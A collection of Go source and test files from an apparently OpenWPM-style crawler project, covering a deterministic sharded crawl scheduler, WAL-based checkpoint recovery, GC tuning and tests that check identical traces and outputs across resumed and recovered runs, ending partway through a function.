// name order, ready to hand to Recover. An empty or missing layout is an
// error — recovery with nothing to recover from is a caller bug, not a
// silently empty checkpoint.
func ListShardFSs(dir string) ([]wal.FS, error) {
	ents, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var fss []wal.FS
	for _, e := range ents {
		if e.IsDir() {
			fss = append(fss, wal.DirFS{Dir: filepath.Join(dir, e.Name())})
		}
	}
	if len(fss) == 0 {
		return nil, fmt.Errorf("sched: no shard logs under %s", dir)
	}
	return fss, nil
}
