package sched

import (
	"os"
	"runtime/debug"
	"sync"
)

// crawlGOGC is the garbage-collection target percentage used while a crawl
// is running. Visits allocate realm object graphs (one interpreter, DOM and
// instrumentation set per window) that die wholesale when the visit ends;
// at the default GOGC=100 the collector re-walks that short-lived,
// pointer-dense heap often enough to cost ~35% of crawl CPU. Trading heap
// headroom for collection frequency is the standard batch-throughput tuning
// and changes nothing observable: artifacts, digests and the interpreters'
// manual allocation counters are GC-independent.
const crawlGOGC = 400

var gcTune struct {
	mu    sync.Mutex
	depth int
	prev  int
}

// crawlGCTuneOn raises GOGC for the duration of a crawl (refcounted, so
// overlapping daemon jobs share one setting). An explicit GOGC environment
// variable wins: the operator asked for that target, keep it.
func crawlGCTuneOn() {
	if os.Getenv("GOGC") != "" {
		return
	}
	gcTune.mu.Lock()
	defer gcTune.mu.Unlock()
	gcTune.depth++
	if gcTune.depth == 1 {
		gcTune.prev = debug.SetGCPercent(crawlGOGC)
	}
}

func crawlGCTuneOff() {
	if os.Getenv("GOGC") != "" {
		return
	}
	gcTune.mu.Lock()
	defer gcTune.mu.Unlock()
	gcTune.depth--
	if gcTune.depth == 0 {
		debug.SetGCPercent(gcTune.prev)
	}
}
