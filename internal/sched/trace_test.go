package sched_test

import (
	"reflect"
	"strings"
	"sync"
	"testing"

	"gullible/internal/sched"
	"gullible/internal/telemetry"
	"gullible/internal/wal"
	"gullible/internal/websim"
)

// traceString renders a span stream to its canonical JSON-lines bytes — the
// form the identity assertions compare.
func traceString(t *testing.T, events []telemetry.SpanEvent) string {
	t.Helper()
	var b strings.Builder
	if err := telemetry.WriteTrace(&b, events); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestTraceIdenticalAcrossResumeAndRecovery is the trace plane's determinism
// contract at the scheduler layer: the merged span stream of a crawl must be
// byte-identical whether the crawl ran uninterrupted, was cooperatively
// stopped and resumed in-process, or was killed and rebuilt from its WAL
// shard logs — at more than one worker count.
func TestTraceIdenticalAcrossResumeAndRecovery(t *testing.T) {
	const sites = 12
	urls := websim.Tranco(sites)
	meta := map[string]string{"scenario": "trace-identity"}

	for _, workers := range []int{1, 2} {
		workers := workers
		t.Run(map[int]string{1: "serial", 2: "sharded"}[workers], func(t *testing.T) {
			cold, err := sched.Run(sched.Crawl{
				Sites:      urls,
				Workers:    workers,
				Config:     crawlConfig(websim.New(websim.Options{Seed: 7, NumSites: sites}), telemetry.New()),
				Record:     true,
				BundleMeta: meta,
				Telemetry:  telemetry.New(),
			})
			if err != nil {
				t.Fatal(err)
			}
			if len(cold.Trace) == 0 {
				t.Fatal("telemetry-enabled run produced an empty merged trace")
			}
			want := traceString(t, cold.Trace)
			// every span id in the merged stream is begun at most once
			seen := map[int64]bool{}
			for _, ev := range cold.Trace {
				if ev.Kind == "B" {
					if seen[ev.Span] {
						t.Fatalf("merged trace begins span %d twice", ev.Span)
					}
					seen[ev.Span] = true
				}
			}

			// in-process stop + resume
			stop := make(chan struct{})
			var once sync.Once
			crawl := sched.Crawl{
				Sites:         urls,
				Workers:       workers,
				Config:        crawlConfig(websim.New(websim.Options{Seed: 7, NumSites: sites}), telemetry.New()),
				Record:        true,
				BundleMeta:    meta,
				Telemetry:     telemetry.New(),
				ProgressEvery: 1,
				Stop:          stop,
				OnProgress: func(done, total int) {
					if done >= 3 {
						once.Do(func() { close(stop) })
					}
				},
			}
			first, err := sched.Run(crawl)
			if err != nil {
				t.Fatal(err)
			}
			if !first.Interrupted {
				t.Fatalf("crawl was not interrupted (done %d/%d)", first.Checkpoint.Done(), sites)
			}
			crawl.Stop, crawl.OnProgress, crawl.ProgressEvery = nil, nil, 0
			crawl.Resume = first.Checkpoint
			resumed, err := sched.Run(crawl)
			if err != nil {
				t.Fatal(err)
			}
			if got := traceString(t, resumed.Trace); got != want {
				t.Fatalf("in-process resumed trace diverges from cold run:\ncold:\n%s\nresumed:\n%s", want, got)
			}

			// killed process + WAL recovery
			fss := make([]*wal.MemFS, workers)
			for i := range fss {
				fss[i] = wal.NewMemFS()
			}
			stop2 := make(chan struct{})
			var once2 sync.Once
			crawl2 := sched.Crawl{
				Sites:      urls,
				Workers:    workers,
				Config:     crawlConfig(websim.New(websim.Options{Seed: 7, NumSites: sites}), telemetry.New()),
				Record:     true,
				BundleMeta: meta,
				Telemetry:  telemetry.New(),
				Backend: sched.WALBackend(func(sh sched.Shard) wal.FS { return fss[sh.Index] },
					workers, true, meta, wal.Options{}),
				ProgressEvery: 1,
				Stop:          stop2,
				OnProgress: func(done, total int) {
					if done >= 3 {
						once2.Do(func() { close(stop2) })
					}
				},
			}
			interrupted, err := sched.Run(crawl2)
			if err != nil {
				t.Fatal(err)
			}
			if !interrupted.Interrupted {
				t.Fatalf("WAL crawl was not interrupted (done %d/%d)", interrupted.Checkpoint.Done(), sites)
			}
			// drop every live object: recovery must come from the logs alone
			interrupted = nil
			walFSs := make([]wal.FS, workers)
			for i, fs := range fss {
				walFSs[i] = fs
			}
			recovered, _, err := sched.Recover(walFSs, wal.Options{})
			if err != nil {
				t.Fatal(err)
			}
			crawl2.Stop, crawl2.OnProgress, crawl2.ProgressEvery = nil, nil, 0
			crawl2.Backend = nil
			crawl2.Resume = recovered
			crawl2.Telemetry = telemetry.New()
			crawl2.Config = crawlConfig(websim.New(websim.Options{Seed: 7, NumSites: sites}), telemetry.New())
			final, err := sched.Run(crawl2)
			if err != nil {
				t.Fatal(err)
			}
			if final.Interrupted {
				t.Fatal("recovered run did not complete")
			}
			if got := traceString(t, final.Trace); got != want {
				t.Fatalf("WAL-recovered trace diverges from cold run:\ncold:\n%s\nrecovered:\n%s", want, got)
			}
			if err := final.Checkpoint.CloseBackends(); err != nil {
				t.Fatal(err)
			}
		})
	}
}

// TestSpanTapStreamsEveryEvent: the live tap must see exactly the events the
// shard recorders accept — same count as the merged trace when nothing is
// overwritten — tagged with a valid shard index.
func TestSpanTapStreamsEveryEvent(t *testing.T) {
	const sites, workers = 8, 2
	var mu sync.Mutex
	var streamed int
	res, err := sched.Run(sched.Crawl{
		Sites:     websim.Tranco(sites),
		Workers:   workers,
		Config:    crawlConfig(websim.New(websim.Options{Seed: 3, NumSites: sites}), telemetry.New()),
		Telemetry: telemetry.New(),
		SpanTap: func(shard int, ev telemetry.SpanEvent) {
			mu.Lock()
			defer mu.Unlock()
			if shard < 0 || shard >= workers {
				t.Errorf("tap saw shard %d, want [0,%d)", shard, workers)
			}
			if ev.Kind != "B" && ev.Kind != "E" {
				t.Errorf("tap saw event kind %q", ev.Kind)
			}
			streamed++
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if streamed == 0 {
		t.Fatal("tap saw no events")
	}
	if streamed != len(res.Trace) {
		t.Fatalf("tap streamed %d events, merged trace has %d", streamed, len(res.Trace))
	}
}

// TestMergedTraceShardOrder: parts must concatenate in shard order, so the
// first crawl-span begin belongs to shard 0 and renumbering starts at 1.
func TestMergedTraceShardOrder(t *testing.T) {
	const sites = 6
	res, err := sched.Run(sched.Crawl{
		Sites:     websim.Tranco(sites),
		Workers:   3,
		Config:    crawlConfig(websim.New(websim.Options{Seed: 9, NumSites: sites}), telemetry.New()),
		Telemetry: telemetry.New(),
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Trace) == 0 {
		t.Fatal("empty merged trace")
	}
	first := res.Trace[0]
	if first.Kind != "B" || first.Name != "crawl" || first.Span != 1 {
		t.Fatalf("merged trace must open with crawl span 1, got %+v", first)
	}
	// visits appear in global site order: shard 0's sites before shard 1's
	var visited []string
	for _, ev := range res.Trace {
		if ev.Kind == "B" && ev.Name == "visit" {
			for _, a := range ev.Attrs {
				if a.Key == "site" {
					visited = append(visited, a.Value)
				}
			}
		}
	}
	want := websim.Tranco(sites)
	if !reflect.DeepEqual(visited, want) {
		t.Fatalf("merged trace visits out of global order:\n%v\nwant\n%v", visited, want)
	}
}
