package sched_test

import (
	"strings"
	"sync"
	"testing"

	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/sched"
	"gullible/internal/telemetry"
	"gullible/internal/websim"
)

// crawlConfig is a small instrumented crawl over the synthetic web.
func crawlConfig(world *websim.World, tel *telemetry.Telemetry) func(sched.Shard) openwpm.CrawlConfig {
	return func(sched.Shard) openwpm.CrawlConfig {
		return openwpm.CrawlConfig{
			OS: jsdom.Ubuntu, Mode: jsdom.Regular,
			Transport: world, ClientID: "sched-test",
			DwellSeconds: 5,
			JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
			HTTPFilterJSOnly: true, HoneyProps: 2, MaxSubpages: 1,
			Telemetry: tel,
		}
	}
}

func TestPartitionProperties(t *testing.T) {
	for _, tc := range []struct{ sites, n int }{
		{0, 1}, {1, 1}, {5, 1}, {5, 2}, {5, 5}, {5, 8}, {17, 4}, {1000, 7},
	} {
		sites := websim.Tranco(tc.sites)
		shards := sched.Partition(sites, tc.n)
		var got []string
		min, max := 1<<31, 0
		for i, sh := range shards {
			if sh.Index != i {
				t.Fatalf("shard %d has Index %d", i, sh.Index)
			}
			if sh.Start != len(got) {
				t.Fatalf("shard %d starts at %d, want %d (must be contiguous)", i, sh.Start, len(got))
			}
			got = append(got, sh.Sites...)
			if len(sh.Sites) < min {
				min = len(sh.Sites)
			}
			if len(sh.Sites) > max {
				max = len(sh.Sites)
			}
		}
		if len(got) != len(sites) {
			t.Fatalf("partition(%d,%d) covers %d sites", tc.sites, tc.n, len(got))
		}
		for i := range got {
			if got[i] != sites[i] {
				t.Fatalf("partition(%d,%d) reorders site %d", tc.sites, tc.n, i)
			}
		}
		if tc.sites > 0 && max-min > 1 {
			t.Fatalf("partition(%d,%d) shard sizes range %d..%d (want balanced)", tc.sites, tc.n, min, max)
		}
	}
}

func TestWorkersClampsToSitesNotOne(t *testing.T) {
	// the pre-scheduler scan collapsed to ONE worker whenever workers
	// exceeded sites; the clamp must keep all the parallelism the site
	// count allows
	if got := sched.Workers(8, 5); got != 5 {
		t.Fatalf("Workers(8, 5) = %d, want 5", got)
	}
	if got := sched.Workers(3, 100); got != 3 {
		t.Fatalf("Workers(3, 100) = %d, want 3", got)
	}
	if got := sched.Workers(3, 0); got != 1 {
		t.Fatalf("Workers(3, 0) = %d, want 1", got)
	}
	if got := sched.Workers(0, 4); got < 1 || got > 4 {
		t.Fatalf("Workers(0, 4) = %d, want within [1, 4]", got)
	}
}

// TestShardedMatchesSerial is the scheduler's determinism contract: the same
// crawl at 1 worker and at N workers must produce byte-identical merged
// storage digests, telemetry snapshots, crawl reports and sealed bundles.
func TestShardedMatchesSerial(t *testing.T) {
	const sites = 18
	run := func(workers int) *sched.Result {
		world := websim.New(websim.Options{Seed: 11, NumSites: sites})
		tel := telemetry.New()
		res, err := sched.Run(sched.Crawl{
			Sites:      websim.Tranco(sites),
			Workers:    workers,
			Config:     crawlConfig(world, tel),
			Record:     true,
			BundleMeta: map[string]string{"scenario": "sched-determinism"},
			Telemetry:  tel,
		})
		if err != nil {
			t.Fatalf("run with %d workers: %v", workers, err)
		}
		if res.Workers != workers {
			t.Fatalf("run requested %d workers, got %d", workers, res.Workers)
		}
		return res
	}
	serial := run(1)
	sharded := run(3)

	if a, b := serial.Storage.Digest(), sharded.Storage.Digest(); a != b {
		t.Fatalf("storage digest diverges: 1 worker %s, 3 workers %s", a, b)
	}
	if a, b := serial.Report.String(), sharded.Report.String(); a != b {
		t.Fatalf("crawl report diverges:\n1 worker:\n%s\n3 workers:\n%s", a, b)
	}
	sa, err := serial.Metrics.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	sb, err := sharded.Metrics.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	if string(sa) != string(sb) {
		t.Fatalf("telemetry snapshot diverges between 1 and 3 workers")
	}
	if serial.Bundle.Digest != sharded.Bundle.Digest {
		t.Fatalf("merged bundle digest diverges: 1 worker %s, 3 workers %s",
			serial.Bundle.Digest, sharded.Bundle.Digest)
	}
	if err := sharded.Bundle.Verify(); err != nil {
		t.Fatalf("merged bundle fails verification: %v", err)
	}
}

// TestKillAndResume interrupts a sharded crawl cooperatively, resumes it from
// the checkpoint, and requires the final merged output to be byte-identical
// to an uninterrupted run — with no site visited twice.
func TestKillAndResume(t *testing.T) {
	const sites = 16
	reference := func() *sched.Result {
		world := websim.New(websim.Options{Seed: 5, NumSites: sites})
		res, err := sched.Run(sched.Crawl{
			Sites:      websim.Tranco(sites),
			Workers:    2,
			Config:     crawlConfig(world, nil),
			Record:     true,
			BundleMeta: map[string]string{"scenario": "resume"},
		})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}()

	world := websim.New(websim.Options{Seed: 5, NumSites: sites})
	stop := make(chan struct{})
	var once sync.Once
	crawl := sched.Crawl{
		Sites:         websim.Tranco(sites),
		Workers:       2,
		Config:        crawlConfig(world, nil),
		Record:        true,
		BundleMeta:    map[string]string{"scenario": "resume"},
		ProgressEvery: 1,
		Stop:          stop,
		OnProgress: func(done, total int) {
			if done >= 3 {
				once.Do(func() { close(stop) })
			}
		},
	}
	first, err := sched.Run(crawl)
	if err != nil {
		t.Fatal(err)
	}
	if !first.Interrupted {
		t.Fatalf("crawl was not interrupted (done %d/%d)", first.Checkpoint.Done(), sites)
	}
	if first.Storage != nil || first.Bundle != nil {
		t.Fatalf("interrupted run must not produce merged outputs")
	}
	doneAtStop := first.Checkpoint.Done()
	if doneAtStop <= 0 || doneAtStop >= sites {
		t.Fatalf("interrupted checkpoint has %d/%d sites done", doneAtStop, sites)
	}

	crawl.Stop = nil
	crawl.OnProgress = nil
	crawl.ProgressEvery = 0
	crawl.Resume = first.Checkpoint
	resumed, err := sched.Run(crawl)
	if err != nil {
		t.Fatal(err)
	}
	if resumed.Interrupted {
		t.Fatalf("resumed run did not complete")
	}
	if got := resumed.Checkpoint.Done(); got != sites {
		t.Fatalf("resumed checkpoint has %d/%d sites done", got, sites)
	}
	if a, b := reference.Storage.Digest(), resumed.Storage.Digest(); a != b {
		t.Fatalf("resumed storage digest %s differs from uninterrupted %s", b, a)
	}
	if reference.Bundle.Digest != resumed.Bundle.Digest {
		t.Fatalf("resumed bundle digest differs from uninterrupted run")
	}
	if a, b := reference.Report.String(), resumed.Report.String(); a != b {
		t.Fatalf("resumed report diverges:\nuninterrupted:\n%s\nresumed:\n%s", a, b)
	}
	// no revisits: every site has exactly one front-page visit row
	front := map[string]int{}
	for _, v := range resumed.Storage.Visits {
		if !v.Subpage {
			front[v.Site]++
		}
	}
	for _, u := range websim.Tranco(sites) {
		if front[u] != 1 {
			t.Fatalf("site %s has %d front-page visit rows after resume, want exactly 1", u, front[u])
		}
	}
}

func TestResumeValidatesShape(t *testing.T) {
	const sites = 6
	world := websim.New(websim.Options{Seed: 3, NumSites: sites})
	crawl := sched.Crawl{
		Sites:   websim.Tranco(sites),
		Workers: 2,
		Config:  crawlConfig(world, nil),
	}
	res, err := sched.Run(crawl)
	if err != nil {
		t.Fatal(err)
	}
	crawl.Workers = 3
	crawl.Resume = res.Checkpoint
	if _, err := sched.Run(crawl); err == nil || !strings.Contains(err.Error(), "resharding") {
		t.Fatalf("resuming with a different worker count must fail, got %v", err)
	}
	crawl.Workers = 2
	crawl.Sites = websim.Tranco(sites + 1)
	if _, err := sched.Run(crawl); err == nil {
		t.Fatalf("resuming with a different site list must fail")
	}
}

func TestFinalProgressEventAlwaysFires(t *testing.T) {
	// 7 sites with the default 1000-site granularity: no intermediate tick
	// is due, but completion must still be reported exactly once
	const sites = 7
	world := websim.New(websim.Options{Seed: 9, NumSites: sites})
	var mu sync.Mutex
	var events [][2]int
	_, err := sched.Run(sched.Crawl{
		Sites:   websim.Tranco(sites),
		Workers: 2,
		Config:  crawlConfig(world, nil),
		OnProgress: func(done, total int) {
			mu.Lock()
			events = append(events, [2]int{done, total})
			mu.Unlock()
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(events) != 1 {
		t.Fatalf("got %d progress events, want exactly the final one", len(events))
	}
	if events[0] != [2]int{sites, sites} {
		t.Fatalf("final progress event is %v, want (%d, %d)", events[0], sites, sites)
	}
}

func TestEmptyCrawl(t *testing.T) {
	res, err := sched.Run(sched.Crawl{
		Sites:  nil,
		Config: crawlConfig(websim.New(websim.Options{Seed: 1, NumSites: 1}), nil),
		Record: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Interrupted || res.Report.Sites != 0 || res.Bundle == nil {
		t.Fatalf("empty crawl should complete with an empty sealed bundle")
	}
	if err := res.Bundle.Verify(); err != nil {
		t.Fatalf("empty bundle fails verification: %v", err)
	}
}
