package sched

import (
	"errors"
	"fmt"
	"sort"

	"gullible/internal/bundle"
	"gullible/internal/openwpm"
	"gullible/internal/telemetry"
	"gullible/internal/wal"
)

// ShardRecoveries is the per-shard recovery detail Recover returns alongside
// the rebuilt checkpoint, for operators who want the damage report.
type ShardRecoveries []*wal.ShardRecovery

// Recover rebuilds a scheduled crawl's checkpoint from the per-shard WALs of
// a killed process: each shard log is scanned, truncated back to its last
// checkpoint and replayed into storage, outcome and recorder state, and the
// resulting Checkpoint plugs straight into Crawl.Resume. The site that was in
// flight when the process died is re-crawled; determinism makes the merged
// result byte-identical to an uninterrupted run.
//
// fss holds one FS per shard, in any order — shard identity comes from each
// log's metadata record, and the rebuilt checkpoint is sorted by shard index.
//
// A log so damaged that not even its metadata record survived
// (wal.ErrNoShardMeta — an empty log, or a kill that tore the very first
// frame) does not fail the recovery: that shard made no durable progress, so
// it is reset and restarted from site zero. Its index is inferred by
// elimination from the recovered siblings, its Start/Sites are recomputed by
// the resumed Run from the crawl's deterministic partition, and the damage
// report carries a MetaLost entry for it. Only when no log at all yields
// metadata — there is nothing to even identify the crawl — does Recover fail.
func Recover(fss []wal.FS, opts wal.Options) (*Checkpoint, ShardRecoveries, error) {
	if len(fss) == 0 {
		return nil, nil, fmt.Errorf("sched: recover: no shard logs")
	}
	recoveries := make(ShardRecoveries, 0, len(fss))
	cp := &Checkpoint{}
	var lost ShardRecoveries // MetaLost placeholders, indices assigned below
	for _, fs := range fss {
		r, err := wal.RecoverShard(fs, opts)
		if err != nil {
			if !errors.Is(err, wal.ErrNoShardMeta) {
				return nil, nil, err
			}
			// no durable progress survived on this shard; rescan purely for
			// the damage report (Scan never fails on damage), then reset the
			// log so the restarted shard opens a clean one
			_, sstats, _ := wal.Scan(fs)
			if rerr := wal.Reset(fs); rerr != nil {
				return nil, nil, fmt.Errorf("sched: recover: resetting unrecoverable shard log: %w", rerr)
			}
			lost = append(lost, &wal.ShardRecovery{
				MetaLost: true,
				Storage:  openwpm.NewStorage(),
				Stats: wal.RecoverStats{Scan: wal.RecoverScan{
					Segments:       sstats.Segments,
					Records:        sstats.Records,
					TruncatedBytes: sstats.TruncatedBytes,
					TornSegments:   sstats.TornSegments,
				}},
			})
			continue
		}
		recoveries = append(recoveries, r)

		report := openwpm.NewCrawlReport()
		for _, o := range r.Outcomes {
			report.AbsorbOutcome(o)
		}
		report.DroppedWrites = r.Storage.DroppedTotal()

		st := &ShardState{
			Shard:      Shard{Index: r.Meta.Index, Start: r.Meta.Start, Sites: r.Meta.Sites},
			Checkpoint: &openwpm.Checkpoint{Done: len(r.Outcomes), Report: report},
			Outcomes:   r.Outcomes,
			Storage:    r.Storage,
			Backend:    r.Backend,
		}
		// re-fold the virtual clock exactly as the live crawl accumulated it
		// (one addition per outcome, in order — float addition is not
		// associative, so summing totals would drift the resumed timestamps)
		for _, o := range r.Outcomes {
			st.virtualMS += (o.VirtualSeconds + o.BackoffSeconds) * 1000
		}
		if r.TraceNextID > 0 {
			// the crawl ran with telemetry: rebuild the shard's flight
			// recorder from the checkpointed span deltas so the resumed
			// trace continues the same event stream and id sequence
			st.flight = telemetry.RestoreFlight(telemetry.DefaultFlightCapacity, r.TraceEvents, r.TraceNextID)
			st.traceCursor = st.flight.Cursor()
			st.crawlSpan = r.TraceCrawlSpan
		}
		if r.Meta.Record {
			rec, err := bundle.RestoreRecorder(r.Meta.Meta, r.Bodies, r.RecorderVisits, r.Storage.Crashes, r.RecorderState)
			if err != nil {
				return nil, nil, fmt.Errorf("sched: recover shard %d: %w", r.Meta.Index, err)
			}
			rec.Spool = r.Backend
			st.Recorder = rec
		}
		cp.Workers = r.Meta.Workers
		cp.Shards = append(cp.Shards, st)
	}
	if len(cp.Shards) == 0 {
		return nil, nil, fmt.Errorf("sched: recover: no shard log yielded metadata (%d logs, all unrecoverable)", len(fss))
	}
	if len(lost) > 0 {
		// assign the unrecoverable logs the shard indices the recovered
		// siblings do not claim, in ascending order; Run recomputes their
		// Start/Sites from the crawl's partition (metaLost)
		seen := map[int]bool{}
		for _, st := range cp.Shards {
			seen[st.Shard.Index] = true
		}
		var missing []int
		for i := 0; i < cp.Workers; i++ {
			if !seen[i] {
				missing = append(missing, i)
			}
		}
		if len(missing) != len(lost) {
			return nil, nil, fmt.Errorf("sched: recover: %d unrecoverable shard logs but %d unclaimed shard indices", len(lost), len(missing))
		}
		for i, r := range lost {
			r.Meta.Index = missing[i]
			r.Meta.Workers = cp.Workers
			recoveries = append(recoveries, r)
			cp.Shards = append(cp.Shards, &ShardState{
				Shard:      Shard{Index: missing[i]},
				Checkpoint: &openwpm.Checkpoint{},
				metaLost:   true,
			})
		}
	}
	sort.Slice(cp.Shards, func(i, j int) bool {
		return cp.Shards[i].Shard.Index < cp.Shards[j].Shard.Index
	})
	for i, st := range cp.Shards {
		if st.Shard.Index != i {
			return nil, nil, fmt.Errorf("sched: recover: shard indices not contiguous (have %d at position %d)", st.Shard.Index, i)
		}
	}
	if len(cp.Shards) != cp.Workers {
		return nil, nil, fmt.Errorf("sched: recover: %d shard logs for a %d-worker crawl", len(cp.Shards), cp.Workers)
	}
	sort.Slice(recoveries, func(i, j int) bool { return recoveries[i].Meta.Index < recoveries[j].Meta.Index })
	return cp, recoveries, nil
}

// WALBackend adapts wal.Open into a Crawl.Backend factory: each shard gets
// its own log (via fss, indexed by shard) stamped with the shard's identity.
func WALBackend(fss func(Shard) wal.FS, workers int, record bool, meta map[string]string, opts wal.Options) func(Shard) openwpm.Backend {
	return func(sh Shard) openwpm.Backend {
		be, err := wal.Open(fss(sh), wal.ShardMeta{
			Index:   sh.Index,
			Start:   sh.Start,
			Workers: workers,
			Sites:   sh.Sites,
			Record:  record,
			Meta:    meta,
		}, opts)
		if err != nil {
			// a backend that cannot open degrades to memory-only: the crawl
			// proceeds, durability is lost, and the failure is visible in
			// telemetry via the storage layer's backend-error accounting
			if opts.Telemetry.Enabled() {
				opts.Telemetry.Event(telemetry.LevelWarn, "wal-open-failed", 0,
					telemetry.L("shard", fmt.Sprintf("%d", sh.Index)),
					telemetry.L("error", err.Error()))
			}
			return nil
		}
		return be
	}
}
