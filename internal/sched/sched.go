// Package sched implements the sharded crawl scheduler: a deterministic
// site→shard partitioner, a pool of per-shard TaskManagers (each with its own
// transport, recorder and checkpoint), and a merge stage that recombines the
// shards' storages, reports, telemetry and execution bundles into results
// that are byte-identical no matter how many workers ran the crawl.
//
// The determinism contract the scheduler maintains:
//
//   - Partitioning is contiguous: shard i covers sites [start, start+len) of
//     the input list, so concatenating shard outputs in shard order
//     reconstructs the serial visit order exactly (round-robin would not).
//   - Per-site work is position-independent: a site's records are a pure
//     function of (site, configuration, seed) — the openwpm layer restarts
//     window numbering per site, fault decisions are hashed per URL, and the
//     shared telemetry registry is commutative (atomic counters, integer
//     histogram sums).
//   - Report folding is order-fixed: float totals are summed by re-folding
//     per-site outcomes in global site order, never by adding per-shard
//     subtotals (float addition is not associative).
//
// The one documented exception is storage-fault injection (faults.Profile
// StoragePerMille): live drop decisions key on a global per-table write
// sequence, so which writes are lost depends on how the crawl was sharded.
// Replays are exempt — a merged bundle archives its drops at global write
// positions, and resharded replays localise them with per-visit write counts.
package sched

import (
	"encoding/json"
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"

	"gullible/internal/bundle"
	"gullible/internal/openwpm"
	"gullible/internal/telemetry"
)

// Shard is one worker's slice of the crawl: a contiguous run of the input
// site list starting at global index Start.
type Shard struct {
	Index int
	Start int
	Sites []string
}

// Partition splits sites into n contiguous shards whose sizes differ by at
// most one (the first len(sites)%n shards take the extra site). n is clamped
// to [1, len(sites)] — except that an empty site list yields one empty shard.
func Partition(sites []string, n int) []Shard {
	n = Workers(n, len(sites))
	shards := make([]Shard, 0, n)
	base, extra := 0, 0
	if n > 0 {
		base, extra = len(sites)/n, len(sites)%n
	}
	start := 0
	for i := 0; i < n; i++ {
		size := base
		if i < extra {
			size++
		}
		shards = append(shards, Shard{Index: i, Start: start, Sites: sites[start : start+size]})
		start += size
	}
	return shards
}

// Workers clamps a requested worker count: zero or negative means
// GOMAXPROCS, and a crawl never gets more workers than it has sites. The
// clamp is to len(sites), not to one — the pre-scheduler scan collapsed to a
// single worker whenever workers exceeded sites, serialising small crawls on
// big machines.
func Workers(requested, sites int) int {
	w := requested
	if w <= 0 {
		w = runtime.GOMAXPROCS(0)
	}
	if w > sites {
		w = sites
	}
	if w < 1 {
		w = 1
	}
	return w
}

// Crawl configures one scheduled crawl.
type Crawl struct {
	// Sites is the input URL list in global (rank) order.
	Sites []string
	// Workers is the requested worker count, clamped by Workers(). Zero
	// means GOMAXPROCS.
	Workers int
	// Config builds a worker's crawl configuration for its shard. It is
	// called once per shard per run (again on resume) from the worker
	// goroutine; per-worker state (fault injectors, replay transports) must
	// be constructed here, not shared. Recorder is attached by the
	// scheduler — leave it nil.
	Config func(Shard) openwpm.CrawlConfig
	// Record archives each shard under its own bundle recorder and merges
	// the shard bundles into one sealed archive (Result.Bundle).
	Record bool
	// Backend, when non-nil, builds a per-shard durable storage backend
	// (package wal's Open, typically). It is called once per shard on a
	// fresh run; resumed runs reuse the checkpoint's backends. When the
	// backend also implements bundle.Spool and Record is set, the shard's
	// recorder spools through it. The scheduler checkpoints each site
	// outcome to the backend and flushes at worker exit, but never closes
	// backends — that is the caller's job (Checkpoint.CloseBackends), since
	// an interrupted checkpoint keeps its backends live for resumption.
	Backend func(Shard) openwpm.Backend
	// BundleMeta labels the merged bundle's manifest (deterministic content
	// only — seeds and scenario names, never timestamps).
	BundleMeta map[string]string
	// Telemetry, when non-nil, is the registry shared by every worker; the
	// scheduler keeps the crawl_progress_done/_total gauges current and
	// snapshots it into Result.Metrics after the merge barrier. Span
	// recording is NOT shared: each shard gets its own flight recorder
	// (shared-ring interleaving across workers is scheduling-dependent), and
	// the merge renumbers the per-shard streams into Result.Trace.
	Telemetry *telemetry.Telemetry
	// DetachMetrics keeps the telemetry snapshot out of the sealed bundle's
	// report (Result.Metrics still carries it). A shared registry
	// accumulates process-lifetime series — a daemon's counters differ
	// between a cold run and a restart-resumed one — so callers that demand
	// digest-identical artifacts across runs detach it.
	DetachMetrics bool
	// SpanTap, when non-nil, observes every span event live as the shard
	// flight recorders accept them, tagged with the recording shard. It is
	// invoked from worker goroutines under the recorder lock: it must be
	// fast, concurrency-safe, and must not call back into telemetry.
	SpanTap func(shard int, ev telemetry.SpanEvent)
	// OnProgress receives crawl progress: a tick every ProgressEvery sites
	// plus always one final (total, total) call when the crawl completes.
	// It is invoked from worker goroutines and must be safe for concurrent
	// use.
	OnProgress func(done, total int)
	// ProgressEvery is the intermediate progress granularity in sites
	// (default 1000).
	ProgressEvery int
	// Stop, when non-nil, interrupts the crawl cooperatively: once closed,
	// every worker stops at its next site boundary and Run returns an
	// Interrupted result whose Checkpoint resumes the crawl.
	Stop <-chan struct{}
	// Resume continues an interrupted run. The checkpoint must come from a
	// Run over the same site list with the same worker count; completed
	// sites are not revisited.
	Resume *Checkpoint
}

// ShardState is one shard's resumable progress: the inner openwpm checkpoint
// (sites done, per-shard report), the outcome stream for global re-folding,
// and the shard's accumulated storage, recorder and fault tallies.
type ShardState struct {
	Shard      Shard
	Checkpoint *openwpm.Checkpoint
	Outcomes   []openwpm.SiteOutcome
	Storage    *openwpm.Storage
	Recorder   *bundle.Recorder
	Backend    openwpm.Backend
	FaultKinds map[string]int

	// cfg is the effective (defaulted) configuration of the shard's most
	// recent TaskManager, kept for bundle finalisation.
	cfg      openwpm.CrawlConfig
	cfgValid bool

	// flight is the shard's span recorder (nil with telemetry off);
	// crawlSpan is the crawl span an interrupted run left open, virtualMS
	// the shard's accumulated virtual clock, and traceCursor the flight
	// cursor of the last WAL checkpoint — together they let a resumed or
	// recovered shard continue its trace exactly where it stopped.
	flight      *telemetry.Flight
	crawlSpan   int64
	virtualMS   float64
	traceCursor int64

	// metaLost marks a WAL-recovered shard whose log lost even its metadata
	// record: Recover knows only the shard's index (by elimination), so
	// Run recomputes its Start/Sites from the deterministic partition of the
	// crawl being resumed before validating the checkpoint.
	metaLost bool
}

// closeCrawlSpan synthesises the crawl-end event for a WAL-recovered shard
// that had already finished its slice when the process died: the end event
// lived after the last checkpoint, so the log never captured it. The
// synthesis mirrors CrawlFromHooked's end call exactly — same name, virtual
// timestamp and completed-count attribute — keeping the resumed trace
// byte-identical to an uninterrupted run's.
func (st *ShardState) closeCrawlSpan() {
	if st.crawlSpan == 0 || st.flight == nil {
		return
	}
	completed := 0
	if st.Checkpoint != nil && st.Checkpoint.Report != nil {
		completed = st.Checkpoint.Report.Completed
	}
